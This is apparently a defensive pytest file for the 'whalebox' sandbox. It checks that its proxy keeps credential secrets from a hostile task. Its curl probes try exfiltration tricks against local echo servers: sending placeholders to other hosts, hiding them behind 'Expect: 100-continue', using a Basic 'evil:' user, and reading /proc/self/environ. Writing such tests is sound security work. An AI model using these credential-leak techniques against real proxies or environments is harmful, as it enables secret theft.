"""Credentials the task never sees (issue 41): the profile's `[network.credentials.*]`
hold secrets in whalebox's own environment; a task gets a placeholder, which the proxy
swaps for the secret in requests to the credential's hosts only. A hostile task tries to
get the secret back: from an origin that echoes what it received (over the proxy's TLS
and over plain HTTP), by sending the placeholder where it is not swapped (another host,
a body behind `Expect: 100-continue`) hoping the secret follows, and from its own
environment.

The hosts are echo servers on 127.0.0.1 (`Echo`): they answer with everything they got,
headers and body, each header's words in base64 and a Basic header decoded, so the
secret comes back in every form the proxy sends it in; they keep what they saw, which
says whether a secret reached them. Whalebox reaches them by name through `[network]
hosts`, trusting their test CA through `ca_files`.

Bare (the control), the task holds the real secret in the same variable: the echo hosts
hand it back in every form and see it, so the probes reach their target. Fenced, the
secret must appear nowhere the task can see (the command's output, the files it wrote),
must reach no host but its credential's, and whalebox keeps serving.

Every attack runs in every configuration, as root and as nobody: the whole matrix takes
about 20 s here (one `whalebox serve` per run, each attack a handful of curls). The
server's own `/proc/PID/environ` is test_server.py's.

Found by this file and fixed in src/net: with `plain_http = true` the answer of a
plain-HTTP credential host came back unmasked (now served like one inside TLS,
intercept/plain.rs); a reason phrase other than the status's own (`401 bad credentials:
Bearer …`) and a header named after the token were passed on as the origin wrote them
(now masked, and dropped); `Basic` with a user of the task's choosing (`evil:`) put the
secret's base64 at an alignment no mask matched (now each Basic payload the proxy sends
is masked whole)."""

from __future__ import annotations

import base64
import re
import datetime
import http.server
import pathlib
import secrets
import shutil
import ssl
import tempfile
import threading
import time

import pytest

from conftest import matrix
from harness import Needs, check

pytestmark = pytest.mark.anyio

# The credentials of the profile: (name, variable, host, extra lines).
BEARER = ("bearer", "WB_CRED_BEARER", "cred.test", "")
BASIC_USER = "x-access-token"
BASIC = ("basic", "WB_CRED_BASIC", "basic.test", f'basic = "{BASIC_USER}"\n')
CLEAR = ("clear", "WB_CRED_CLEAR", "clear.test", "plain_http = true\n")
CREDENTIALS = [BEARER, BASIC, CLEAR]
# Not any credential's host.
OTHER = "other.test"
HOSTS = [c[2] for c in CREDENTIALS] + [OTHER]


# -- the echo hosts --------------------------------------------------------------------


class Echo:
    """An HTTP/1.1 echo host on 127.0.0.1, over TLS (a certificate for every name in
    `HOSTS` from the test CA) or plain. Its answer holds the request line, the headers
    and the body as received, then each header's whitespace-separated words in base64
    and a `Basic` header decoded; `X-Echo-Authorization` repeats the Authorization
    header, at `/reason` so does the status line's reason phrase (a 401), at `/name` the
    token is a header's name, and at `/slow` the answer comes in 5-byte chunks, each
    sent on its own (a secret split across them). It keeps each answer (the request as
    received, Basic decoded) in `seen`."""

    def __init__(self, tls: ssl.SSLContext | None):
        self.seen: list[bytes] = []
        self.lock = threading.Lock()
        echo = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def _echo(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n) if n else b""
                raw = (self.requestline + "\r\n" + str(self.headers)).encode() + body
                lines = [raw.decode(errors="replace"), ""]
                for name, value in self.headers.items():
                    for word in value.split():
                        lines.append(f"b64 {name}: {base64.b64encode(word.encode()).decode()}")
                    if value.lower().startswith("basic "):
                        try:
                            decoded = base64.b64decode(value[6:].strip()).decode(errors="replace")
                        except ValueError:
                            decoded = "(not base64)"
                        lines.append(f"basic-decoded: {decoded}")
                        password = decoded.split(":", 1)[-1]
                        lines.append(f"b64 basic-password: {base64.b64encode(password.encode()).decode()}")
                out = ("\n".join(lines) + "\n").encode()
                with echo.lock:
                    echo.seen.append(out)
                if self.path.startswith("/reason"):
                    # The status line's reason phrase, as an API that names the token it
                    # refuses would (`401 bad credentials: Bearer …`).
                    self.send_response(401, f"bad credentials: {self.headers.get('Authorization', '')}")
                else:
                    self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                slow = self.path.startswith("/slow")
                if slow:
                    self.send_header("Transfer-Encoding", "chunked")
                else:
                    self.send_header("Content-Length", str(len(out)))
                auth = self.headers.get("Authorization")
                if auth:
                    self.send_header("X-Echo-Authorization", auth)
                    if self.path.startswith("/name"):
                        # The token in a header's name (`X-Token-<token>: seen`).
                        self.send_header(f"X-Token-{auth.split()[-1]}", "seen")
                self.send_header("Connection", "close")
                self.end_headers()
                if slow:
                    # Chunks of 5 bytes, each sent on its own: a secret comes split.
                    for i in range(0, len(out), 5):
                        piece = out[i:i + 5]
                        self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
                        self.wfile.flush()
                        time.sleep(0.0005)
                    self.wfile.write(b"0\r\n\r\n")
                else:
                    self.wfile.write(out)
                self.close_connection = True

            do_GET = do_POST = do_PUT = _echo

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads = True

            def finish_request(self, request, client_address):
                # The TLS handshake in the request's thread, not in accept's.
                if tls is not None:
                    try:
                        request = tls.wrap_socket(request, server_side=True)
                    except (ssl.SSLError, OSError):
                        return
                super().finish_request(request, client_address)

        self.server = Server(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def saw(self, needle: str) -> bool:
        with self.lock:
            return any(needle.encode() in s for s in self.seen)

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def make_ca(directory: pathlib.Path) -> tuple[pathlib.Path, ssl.SSLContext]:
    """A test CA (its PEM written to `directory`, readable by every user) and a server
    context with a leaf for every name in `HOSTS`, signed by it."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    now = datetime.datetime.now(datetime.timezone.utc)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "whalebox adversarial test CA")])
    ca = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name)
          .public_key(ca_key.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(now - datetime.timedelta(hours=1)).not_valid_after(now + datetime.timedelta(days=2))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
          .add_extension(x509.KeyUsage(digital_signature=True, content_commitment=False, key_encipherment=False,
                                       data_encipherment=False, key_agreement=False, key_cert_sign=True,
                                       crl_sign=True, encipher_only=False, decipher_only=False), critical=True)
          .add_extension(x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key()), critical=False)
          .sign(ca_key, hashes.SHA256()))
    key = ec.generate_private_key(ec.SECP256R1())
    leaf = (x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, HOSTS[0])]))
            .issuer_name(ca_name).public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1)).not_valid_after(now + datetime.timedelta(days=2))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(h) for h in HOSTS]), critical=False)
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
            .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(ca_key.public_key()), critical=False)
            .sign(ca_key, hashes.SHA256()))
    pem = ca.public_bytes(serialization.Encoding.PEM)
    ca_file = directory / "test-ca.pem"
    ca_file.write_bytes(pem)
    ca_file.chmod(0o644)
    chain = directory / "leaf.pem"
    chain.touch(mode=0o600)
    chain.write_bytes(leaf.public_bytes(serialization.Encoding.PEM) + key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(chain)
    return ca_file, ctx


class Hosts:
    def __init__(self, ca_file: pathlib.Path, tls: Echo, plain: Echo):
        self.ca_file = ca_file
        self.tls = tls
        self.plain = plain


@pytest.fixture(scope="module")
def hosts():
    d = pathlib.Path(tempfile.mkdtemp(prefix="whalebox-creds-ca-"))
    d.chmod(0o755)
    ca_file, ctx = make_ca(d)
    tls, plain = Echo(ctx), Echo(None)
    yield Hosts(ca_file, tls, plain)
    tls.close()
    plain.close()
    shutil.rmtree(d, ignore_errors=True)


def needs(h: Hosts) -> Needs:
    """The hosts by name on 127.0.0.1, their CA trusted by the proxy, and the three
    credentials."""
    toml = "\n[network.hosts]\n" + "".join(f'"{n}" = "127.0.0.1"\n' for n in HOSTS)
    for name, var, host, extra in CREDENTIALS:
        toml += f'\n[network.credentials.{name}]\nenv = "{var}"\nhosts = ["{host}"]\n{extra}'
    return Needs(profile={"network": {"allow_domains": HOSTS, "allow_private": ["127.0.0.1"], "ports": [],
                                      "ca_files": [str(h.ca_file)]}}, toml=toml)


def with_secrets(place) -> None:
    """`setup`: a fresh secret per credential in its variable; whalebox serve starts with
    them (fenced) and the bare task holds them itself (the control)."""
    place.secrets = {var: "wb-" + secrets.token_hex(14) for _, var, _, _ in CREDENTIALS}
    base = place.env
    place.env = lambda: base() | place.secrets


def forms(t, var: str) -> list[str]:
    """Every form the proxy sends the secret of `var` in: raw, base64, and base64 of
    Basic's `user:secret`."""
    s = t.place.secrets[var]
    out = [s, base64.b64encode(s.encode()).decode()]
    if var == BASIC[1]:
        out.append(base64.b64encode(f"{BASIC_USER}:{s}".encode()).decode())
    return out


def seen_by_task(t, r) -> str:
    """What the task can see: the command's output and every file in the workspace."""
    parts = [r.text]
    for p in t.ws.rglob("*"):
        if p.is_file():
            parts.append(p.read_bytes().decode(errors="replace"))
    return "\n".join(parts)


def decoded_basic(text: str) -> str:
    """Every `Basic` value in `text`, decoded: a secret inside the base64 of a longer
    payload (`Basic` of a user the task chose) sits at any alignment, so only decoding
    finds it. (Not every base64 word: the echo's own base64 of a Basic value is an
    origin re-encoding, which masking does not claim to see through.)"""
    out = []
    for word in re.findall(r"Basic\s+([A-Za-z0-9+/]+={0,2})", text):
        try:
            out.append(base64.b64decode(word + "=" * (-len(word) % 4)).decode(errors="replace"))
        except ValueError:
            pass
    return "\n".join(out)


def leaked(t, r, *vars: str) -> list[str]:
    text = seen_by_task(t, r)
    text += "\n" + decoded_basic(text)
    return [f"{var} as {f}" for var in vars for f in forms(t, var) if f in text]


SAY_PLACEHOLDER = 'echo "placeholder=$%s"'


def said_placeholder(r) -> str:
    """What the task holds in the variable (`SAY_PLACEHOLDER`): the placeholder, fenced;
    bare, the secret itself."""
    for line in r.text.splitlines():
        if line.startswith("placeholder="):
            return line.split("=", 1)[1].strip()
    raise AssertionError(f"the task did not say its placeholder:\n{r.text}")


def curl(t, h: Hosts, url: str, args: str) -> str:
    """A curl command line for `url` (`https://HOST/…` or `http://HOST/…`, the port
    filled in). Bare, names resolve by `--resolve` and the test CA is trusted by file;
    fenced, the proxy resolves them and curl trusts the session bundle whalebox gives
    it (`CURL_CA_BUNDLE`)."""
    scheme, rest = url.split("://", 1)
    host, path = rest.split("/", 1)
    port = h.tls.port if scheme == "https" else h.plain.port
    extra = ""
    if not t.fenced:
        extra = f"--resolve {host}:{port}:127.0.0.1 --cacert {h.ca_file} "
    return f"curl -sS --max-time 20 {extra}{args} {scheme}://{host}:{port}/{path}"


# -- 1. an HTTPS credential host that echoes -------------------------------------------


@pytest.mark.parametrize("config,user", matrix())
async def test_an_echoing_https_credential_host_hands_back_no_secret(wl, hosts, config, user):
    """The task sends the placeholders (Bearer and Basic, in headers and a body) to the
    credential hosts over HTTPS, which echo them: raw, base64 and Basic's base64 of
    `user:secret`, in the answer's headers and body, saved to files too. Fenced, the
    hosts got the secrets (the swap happened) and the task reads the placeholders only.
    Bare, the task's own secrets come back in every form."""
    h = hosts

    async def steps(t):
        bearer = curl(t, h, f"https://{BEARER[2]}/slow",
                      f'-D head1.txt -o body1.txt -H "Authorization: Bearer ${BEARER[1]}" '
                      f'--data-binary "token=${BEARER[1]}"')
        basic = curl(t, h, f"https://{BASIC[2]}/echo", f'-D head2.txt -o body2.txt -u "{BASIC_USER}:${BASIC[1]}"')
        auth = f'-H "Authorization: Bearer ${BEARER[1]}"'
        reason = curl(t, h, f"https://{BEARER[2]}/reason", f"-D head3.txt -o /dev/null {auth}")
        name = curl(t, h, f"https://{BEARER[2]}/name", f"-D head4.txt -o /dev/null {auth}")
        # Basic with a user of the task's choosing: the secret's base64 inside it is at
        # another alignment than the credential's own forms.
        shifted = curl(t, h, f"https://{BEARER[2]}/echo", f'-D head5.txt -o /dev/null -u "evil:${BEARER[1]}"')
        r = await t.sh(f"{bearer} && {basic} && {reason} && {name} && {shifted}; e=$?; "
                       "cat head1.txt body1.txt head2.txt body2.txt head3.txt head4.txt head5.txt; exit $e")
        bearer_secret, basic_secret = t.place.secrets[BEARER[1]], t.place.secrets[BASIC[1]]
        check(r, h.tls.saw(bearer_secret) and h.tls.saw(basic_secret),
              "the echo host should have received both secrets (the probe is broken)")
        got = leaked(t, r, BEARER[1], BASIC[1])
        if t.fenced:
            check(r, not got, f"the task read a secret an echoing credential host handed back: {got}")
            check(r, "whalebox-placeholder-bearer-" in r.text and "whalebox-placeholder-basic-" in r.text,
                  "the echo should hand back the placeholders in the secrets' place")
            await t.sh("true", why="whalebox stopped serving after the attack")
        else:
            check(r, len(got) == 5, f"bare, the echo should hand back every form of the secrets: {got}")
            check(r, f"401 bad credentials: Bearer {bearer_secret}" in r.text and f"X-Token-{bearer_secret}" in r.text,
                  "bare, the reason phrase and a header's name should hold the secret (the probe is broken)")

    await wl.run("creds_https_echo", config, user, steps, setup=with_secrets, needs=needs(h))


# -- 2. plain HTTP to a credential host ------------------------------------------------


@pytest.mark.parametrize("config,user", matrix())
async def test_plain_http_to_a_credential_host_is_refused_or_masked(wl, hosts, config, user):
    """Plain HTTP to a credential host: refused (403 naming `plain_http`, nothing
    reaches the host) unless the credential sets `plain_http = true`; with it, the secret
    is sent and what the host echoes back is masked as over TLS. Bare, the echo hands
    the secret back."""
    h = hosts

    async def steps(t):
        refused = curl(t, h, f"http://{BEARER[2]}/echo",
                       f'-w "\\nstatus=%{{http_code}}\\n" -H "Authorization: Bearer ${BEARER[1]}"')
        clear = curl(t, h, f"http://{CLEAR[2]}/echo",
                     f'-D head.txt -o body.txt -H "Authorization: Bearer ${CLEAR[1]}" '
                     f'--data-binary "token=${CLEAR[1]}"')
        auth = f'-H "Authorization: Bearer ${CLEAR[1]}"'
        reason = curl(t, h, f"http://{CLEAR[2]}/reason", f"-D head2.txt -o /dev/null {auth}")
        name = curl(t, h, f"http://{CLEAR[2]}/name", f"-D head3.txt -o /dev/null {auth}")
        shifted = curl(t, h, f"http://{CLEAR[2]}/echo", f'-D head4.txt -o /dev/null -u "evil:${CLEAR[1]}"')
        r = await t.sh(f"{refused}; {clear} && {reason} && {name} && {shifted}; e=$?; "
                       "cat head.txt body.txt head2.txt head3.txt head4.txt; exit $e")
        bearer_secret, clear_secret = t.place.secrets[BEARER[1]], t.place.secrets[CLEAR[1]]
        check(r, h.plain.saw(clear_secret), "the plain echo host should have received the secret")
        got = leaked(t, r, BEARER[1], CLEAR[1])
        if t.fenced:
            check(r, "status=403" in r.text and "plain_http" in r.text,
                  "plain HTTP carrying a credential without plain_http = true should be a 403 naming plain_http")
            check(r, not h.plain.saw(bearer_secret), "a secret crossed plain HTTP without plain_http = true")
            check(r, not got, f"the task read a secret a plain-HTTP credential host handed back: {got}")
            check(r, "whalebox-placeholder-clear-" in r.text,
                  "the echo should hand back the placeholder in the secret's place")
            await t.sh("true", why="whalebox stopped serving after the attack")
        else:
            check(r, h.plain.saw(bearer_secret) and len(got) == 4,
                  f"bare, the echo should hand back every form of the secrets: {got}")
            check(r, f"401 bad credentials: Bearer {clear_secret}" in r.text and f"X-Token-{clear_secret}" in r.text,
                  "bare, the reason phrase and a header's name should hold the secret (the probe is broken)")

    await wl.run("creds_plain_http", config, user, steps, setup=with_secrets, needs=needs(h))


# -- 3. Expect: 100-continue to another host --------------------------------------------


@pytest.mark.parametrize("config,user", matrix())
async def test_a_placeholder_behind_expect_100_continue_reaches_no_other_host(wl, hosts, config, user):
    """A body holding the placeholder, sent with `Expect: 100-continue` (the client
    waits to be told before sending it) to a host that is not the credential's, plain
    and over HTTPS. Fenced, the proxy screens the body before forwarding a byte of it:
    over plain HTTP it is refused, and in no case does the secret reach the host.
    Bare, the host gets the secret."""
    h = hosts

    async def steps(t):
        var = BEARER[1]
        body = f"printf 'token=%s\\n' \"${var}\" > body.txt"
        plain = curl(t, h, f"http://{OTHER}/expect",
                     '-w "\\nstatus=%{http_code}\\n" -H "Expect: 100-continue" --data-binary @body.txt')
        tls = curl(t, h, f"https://{OTHER}/expect", "-k -H 'Expect: 100-continue' --data-binary @body.txt")
        r = await t.sh(f"{SAY_PLACEHOLDER % var}; {body}; {plain}; {tls}; true")
        secret, ph = t.place.secrets[var], said_placeholder(r)
        reached = h.plain.saw(secret) or h.tls.saw(secret)
        if t.fenced:
            check(r, not reached, "the secret reached a host that is not its credential's")
            check(r, "status=403" in r.text and BEARER[0] in r.text and not h.plain.saw(ph),
                  "the plain-HTTP body with a placeholder should be refused, naming the credential")
            check(r, h.tls.saw(ph), "the tunnel should carry the placeholder as it is (the probe is broken)")
            check(r, not leaked(t, r, var), "the task read the secret")
            await t.sh("true", why="whalebox stopped serving after the attack")
        else:
            check(r, h.plain.saw(secret) and h.tls.saw(secret), "bare, both hosts should get the secret")

    await wl.run("creds_expect_continue", config, user, steps, setup=with_secrets, needs=needs(h))


# -- 4. the placeholder sent to a host that is not its credential's ----------------------


@pytest.mark.parametrize("config,user", matrix())
async def test_a_placeholder_sent_to_another_host_carries_no_secret(wl, hosts, config, user):
    """The bearer credential's placeholder in a header and in a body, to a host of no
    credential (plain and HTTPS) and to another credential's host. Fenced, no host gets
    the bearer secret: the proxy refuses what it can see and does not swap what it
    cannot (a tunnel carries the worthless placeholder). Bare, every host gets it."""
    h = hosts

    async def steps(t):
        var = BEARER[1]
        header = f'-H "Authorization: Bearer ${var}"'
        data = f'--data-binary "token=${var}"'
        cmds = [
            curl(t, h, f"http://{OTHER}/header", header),
            curl(t, h, f"http://{OTHER}/body", data),
            curl(t, h, f"https://{OTHER}/header", f"-k {header}"),
            curl(t, h, f"https://{OTHER}/body", f"-k {data}"),
            # Another credential's host, whose TLS the proxy ends.
            curl(t, h, f"https://{BASIC[2]}/header", header),
            curl(t, h, f"https://{BASIC[2]}/body", data),
            curl(t, h, f"http://{CLEAR[2]}/header", header),
        ]
        r = await t.sh("; ".join([SAY_PLACEHOLDER % var, *cmds, "true"]))
        secret, ph = t.place.secrets[var], said_placeholder(r)
        if t.fenced:
            check(r, not h.plain.saw(secret) and not h.tls.saw(secret),
                  "the secret reached a host that is not its credential's")
            check(r, not h.plain.saw(ph), "plain HTTP carrying another host's placeholder should be refused")
            check(r, h.tls.saw(ph), "the tunnel and the body inside TLS carry the placeholder as it is "
                                    "(the probe is broken)")
            check(r, not leaked(t, r, var), "the task read the secret")
            await t.sh("true", why="whalebox stopped serving after the attack")
        else:
            check(r, h.plain.saw(secret) and h.tls.saw(secret), "bare, the hosts should get the secret")

    await wl.run("creds_other_host", config, user, steps, setup=with_secrets, needs=needs(h))


# -- 5. the task's own environment --------------------------------------------------------


@pytest.mark.parametrize("config,user", matrix())
async def test_a_tasks_own_environment_holds_placeholders_only(wl, hosts, config, user):
    """`/proc/self/environ` and `env` of the task (a child, so an inherited variable
    shows). Fenced, each credential's variable holds its placeholder; no secret. Bare,
    the task holds the secrets (the probe reads them). The server's own environment is
    test_server.py's `test_a_task_cannot_read_the_servers_environment`."""

    async def steps(t):
        r = await t.sh("tr '\\0' '\\n' < /proc/self/environ; env; sh -c 'cat /proc/$$/environ' | tr '\\0' '\\n'")
        vars_ = [c[1] for c in CREDENTIALS]
        got = leaked(t, r, *vars_)
        if t.fenced:
            check(r, not got, f"a secret is in the task's environment: {got}")
            check(r, all(f"{v}=whalebox-placeholder-" in r.text for v in vars_),
                  "each credential's variable should hold its placeholder")
            await t.sh("true", why="whalebox stopped serving")
        else:
            check(r, all(t.place.secrets[v] in r.text for v in vars_),
                  "bare, the task's environment should hold the secrets (the probe is broken)")

    await wl.run("creds_own_environ", config, user, steps, setup=with_secrets, needs=needs(hosts))
